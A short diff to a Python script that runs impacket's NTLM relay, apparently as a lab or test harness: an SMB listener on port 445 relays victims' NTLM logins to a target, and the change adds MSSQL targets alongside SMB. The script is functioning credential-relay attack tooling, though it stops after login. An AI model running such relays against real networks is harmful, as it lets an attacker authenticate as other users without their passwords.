@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Runs impacket's NTLM relay (the library behind ntlmrelayx.py, which Debian's
 python3-impacket ships without the script): an SMB server on LISTEN_IP:445
-whose clients' NTLM logins are relayed to TARGET (smb://host). Once logged in
-to the target as the victim it does nothing more (ntlmrelayx's attack modules
+whose clients' NTLM logins are relayed to TARGET (smb://host or mssql://host).
+Once logged in to the target as the victim it does nothing more (ntlmrelayx's attack modules
 are not loaded: the LDAP one needs a library Debian lacks). Prints
 "relay ready" once listening; runs until killed.
 
@@ -38,7 +38,7 @@ def main() -> None:
     config.setProtocolClients(PROTOCOL_CLIENTS)
     config.setTargets(TargetsProcessor(singleTarget=target, protocolClients=PROTOCOL_CLIENTS))
     config.setMode("RELAY")
-    config.setAttacks({"SMB": LoggedIn})
+    config.setAttacks({"SMB": LoggedIn, "MSSQL": LoggedIn})
     config.setInterfaceIp(listen_ip)
     config.setListeningPort(445)
     config.setSMB2Support(True)
